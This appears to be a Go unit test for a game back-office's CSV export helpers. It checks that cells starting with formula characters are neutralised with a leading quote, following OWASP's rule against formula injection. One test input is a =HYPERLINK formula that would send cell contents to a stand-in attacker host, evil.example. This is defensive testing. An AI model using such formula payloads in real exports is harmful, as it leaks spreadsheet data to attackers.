package backoffice_test

import (
	"testing"

	"github.com/crashstudio/crashgame/internal/backoffice"
)

// A text cell that a spreadsheet would read as a formula gets a leading
// quote (OWASP's rule); any other text, and the integers we write, do not.
func TestCSVCells(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"-500", "'-500"}, // text that looks like a number is text
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"", ""},
		{"p1", "p1"},
		{"a=1", "a=1"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"2025-01-02T03:04:05.000Z", "2025-01-02T03:04:05.000Z"},
	}
	for _, tt := range tests {
		if got := backoffice.CSVText(tt.in); got != tt.want {
			t.Errorf("CSVText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	for n, want := range map[int64]string{-500: "-500", 0: "0", 1200: "1200", -9223372036854775808: "-9223372036854775808"} {
		if got := backoffice.CSVInt(n); got != want {
			t.Errorf("CSVInt(%d) = %q, want %q", n, got, want)
		}
	}
}
